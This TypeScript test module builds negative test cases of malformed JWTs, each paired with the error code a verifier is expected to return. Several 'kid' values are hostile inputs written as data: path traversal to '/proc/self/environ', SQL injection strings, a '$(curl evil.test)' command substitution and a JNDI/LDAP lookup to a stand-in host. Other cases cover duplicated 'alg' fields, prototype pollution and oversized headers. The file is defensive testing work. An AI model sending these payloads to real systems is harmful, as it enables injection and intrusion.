import { claims, encode, HEADER, raw, type Attack } from './forgery.ts'

/** The last character with one of its unused bits set: the same bytes to a loose decoder. */
function loose(token: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  return token.slice(0, -1) + alphabet[alphabet.indexOf(token.at(-1)!) | 1]
}

const UNKNOWN_KIDS = [
  '../../../../dev/null',
  '/proc/self/environ',
  'file:///dev/null',
  'https://evil.test/jwks',
  "k1' OR '1'='1",
  "x' UNION SELECT 'secret",
  '$(curl evil.test)',
  '${jndi:ldap://evil.test/a}',
  'k1\0',
  'k1 ',
  'k1\n',
  'k1\u200b',
  'ｋ1',
  'K1',
  'k1/',
  'k1#',
  '%6b1',
  '',
  '0',
  'null',
  '__proto__',
  'constructor',
  'toString',
  'k1,c1',
]

const HEADERS: Attack[] = [
  ...UNKNOWN_KIDS.map((kid): Attack => [
    `kid ${JSON.stringify(kid)}`,
    'token-key-unknown',
    () => raw({ ...HEADER, kid }),
  ]),
  ...[['k1'], { kid: 'k1' }, 1, true, null].map((kid): Attack => [
    `kid ${JSON.stringify(kid)}`,
    'token-malformed',
    () => raw({ ...HEADER, kid }),
  ]),
  ['kid of 1 MB', 'token-too-large', () => raw({ ...HEADER, kid: 'k1'.repeat(500_000) })],
  ...[{ crit: ['exp'], exp: 1 }, { crit: [] }, { crit: ['evil'] }, { crit: 'b64' }, { crit: null }].map(
    (members): Attack => [JSON.stringify(members), 'token-malformed', () => raw({ ...HEADER, ...members })],
  ),
  ...[{ crit: ['b64'], b64: false }, { crit: ['b64'], b64: true }, { b64: false }, { b64: true }].map(
    (members): Attack => [JSON.stringify(members), 'token-malformed', () => raw({ ...HEADER, ...members })],
  ),
  [
    'a payload that is not encoded (RFC 7797)',
    'bearer-malformed',
    async () => `${encode({ ...HEADER, b64: false, crit: ['b64'] })}.{}.${(await raw(HEADER)).split('.')[2]}`,
  ],
  ['zip', 'token-malformed', () => raw({ ...HEADER, zip: 'DEF' })],
  ['enc', 'token-malformed', () => raw({ ...HEADER, enc: 'A128GCM' })],
  ['an empty list in the header', 'token-malformed', () => raw({ ...HEADER, x: [] })],
  ['null in the header', 'token-malformed', () => raw({ ...HEADER, x: null })],
  ['alg twice', 'token-malformed', () => raw('{"alg":"none","kid":"k1","alg":"RS256"}')],
  ['alg twice, escaped', 'token-malformed', () => raw('{"alg":"RS256","kid":"k1","\\u0061lg":"none"}')],
  ['kid twice', 'token-malformed', () => raw('{"alg":"RS256","kid":"evil","kid":"k1"}')],
  ['alg through __proto__', 'token-malformed', () => raw('{"__proto__":{"alg":"RS256"},"kid":"k1"}')],
  ...[700, 10_000].map((depth): Attack => [
    `a header ${depth} deep`,
    'token-malformed',
    () => raw(`{"alg":"RS256","kid":"k1","x":${'['.repeat(depth)}${']'.repeat(depth)}}`),
  ]),
  ['a header of 3 KiB', 'token-malformed', () => raw({ ...HEADER, x: 'x'.repeat(2300) })],
  ['a header that is a list', 'token-malformed', () => raw([HEADER])],
  ['a header that is null', 'token-malformed', () => raw('null')],
  ['a header in single quotes', 'token-malformed', () => raw("{'alg':'RS256','kid':'k1'}")],
  ['a header with a comment', 'token-malformed', () => raw('{"alg":"RS256","kid":"k1"/**/}')],
  ['a header with a byte order mark', 'token-malformed', () => raw(`\ufeff${JSON.stringify(HEADER)}`)],
  ...['logout+jwt', 'dpop+jwt', 'secevent+jwt', 'token-introspection+jwt', 'JOSE', 'JWT ', 'JWE', ''].map(
    (typ): Attack => [`typ ${JSON.stringify(typ)}`, 'token-malformed', () => raw({ ...HEADER, typ })],
  ),
]

const respelled = (name: string, spell: (token: string) => string, code = 'token-malformed'): Attack => [
  name,
  code,
  async () => spell(await raw(HEADER)),
]
/** What is not even the syntax of a bearer token (RFC 6750 §2.1). */
const garbled = (name: string, spell: (token: string) => string): Attack => respelled(name, spell, 'bearer-malformed')
const asJson = (token: string) => {
  const [header, payload, signature] = token.split('.')
  return { payload, protected: header, signature }
}

const SPELLINGS: Attack[] = [
  respelled('loose trailing bits', loose),
  respelled('loose trailing bits in the header', (token) => token.replace(/^[^.]+/, (part) => loose(part))),
  respelled('padding', (token) => `${token}==`),
  garbled('padding in the middle', (token) => token.replace('.', '=.')),
  garbled('a space inside', (token) => token.replace('.', ' .')),
  garbled('a tab inside', (token) => token.replace('.', '.\t')),
  respelled('a dot before', (token) => `.${token}`),
  respelled('a dot after', (token) => `${token}.`),
  respelled('two dots', (token) => token.replace('.', '..')),
  garbled('two tokens', (token) => `${token}, Bearer ${token}`),
  garbled('two tokens without a scheme', (token) => `${token},${token}`),
  garbled('two tokens and a space', (token) => `${token} ${token}`),
  garbled('a parameter', (token) => `${token};x=1`),
  garbled('quotes', (token) => `"${token}"`),
  garbled('percent-encoding', (token) => token.replace('.', '%2e')),
  garbled('an escape', (token) => token.replace('.', '\\u002e')),
  respelled('encoded once more', encode),
  respelled('standard base64', (token) => token.replaceAll('-', '+').replaceAll('_', '/').padEnd(400, '+')),
  respelled('two parts', (token) => token.split('.').slice(0, 2).join('.')),
  respelled('four parts', (token) => `${token}.e30`),
  respelled('five parts, from a token', (token) => `${token}.e30.e30`),
  ['five parts', 'token-malformed', () => `${encode({ alg: 'dir', enc: 'A256GCM' })}.e30.e30.e30.e30`],
  garbled('JSON serialisation, flattened', (token) => JSON.stringify(asJson(token))),
  garbled('JSON serialisation, general', (token) => {
    const { payload, ...signature } = asJson(token)
    return JSON.stringify({ payload, signatures: [signature] })
  }),
  garbled('a compact token that is JSON as well', (token) => `{"protected":"${token}"}`),
  ['a token in a token', 'token-malformed', async () => raw({ ...HEADER, cty: 'JWT' }, await raw(HEADER))],
  [
    'a token in a token, as JSON',
    'token-malformed',
    async () => raw({ ...HEADER, cty: 'JWT' }, JSON.stringify(await raw(HEADER))),
  ],
  ['claims that are a list', 'token-malformed', () => raw(HEADER, [claims])],
  ['claims that are empty', 'token-malformed', () => raw(HEADER, '')],
  ['1 MB', 'token-too-large', () => raw(HEADER, { ...claims, x: 'x'.repeat(1_000_000) })],
  ['1 MB of dots', 'token-too-large', () => '.'.repeat(1_000_000)],
  ['33 KiB', 'token-too-large', () => raw(HEADER, { ...claims, x: 'x'.repeat(25_000) })],
]

/** Odd headers, and odd spellings of good tokens. */
export const FORM_ATTACKS = [...HEADERS, ...SPELLINGS]
